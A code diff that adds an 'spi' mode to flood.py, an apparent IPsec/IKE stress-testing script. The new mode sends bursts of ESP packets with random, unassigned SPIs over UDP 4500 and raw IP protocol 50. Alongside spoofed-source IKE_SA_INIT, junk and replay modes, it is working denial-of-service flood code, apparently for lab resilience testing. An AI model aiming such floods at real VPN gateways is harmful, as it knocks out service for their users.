@@ -4,6 +4,7 @@
 flood.py init TARGET SECONDS    IKE_SA_INIT requests that look right, each from another source (198.18.0.0/15)
 flood.py stubborn TARGET COUNT  IKE_SA_INIT requests from one true address and many ports, which bring the cookie that is asked for
 flood.py junk TARGET COUNT      random bytes to UDP 500 and 4500 and in IP protocol 50, COUNT of each kind
+flood.py spi TARGET COUNT       COUNT ESP packets of SPIs that nobody has, half of them in UDP 4500, half in IP protocol 50
 flood.py replay TARGET DEVICE   sends each ESP packet (protocol 50) for TARGET that DEVICE receives twice more, until it is told to end
 """
 import os
@@ -99,6 +100,20 @@ def flood_junk(target, count):
             time.sleep(0.002)
 
 
+def flood_spi(target, count):
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    esp = socket.socket(socket.AF_INET, socket.SOCK_RAW, ESP)
+    udp.connect((target, 4500))
+    esp.connect((target, 0))
+    body = os.urandom(92)
+    for i in range(count // 2):
+        head = struct.pack("!II", 0x10000000 | random.getrandbits(28), i)
+        udp.send(head + body)
+        esp.send(head + body)
+        if i % 50 == 49:
+            time.sleep(0.002)
+
+
 # Until it is told to end; then it says how many.
 def replay(target, device):
     listener = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
@@ -127,6 +142,8 @@ def main():
         flood_stubborn(target, int(sys.argv[3]))
     elif what == "junk":
         flood_junk(target, int(sys.argv[3]))
+    elif what == "spi":
+        flood_spi(target, int(sys.argv[3]))
     elif what == "replay":
         replay(target, sys.argv[3])
 
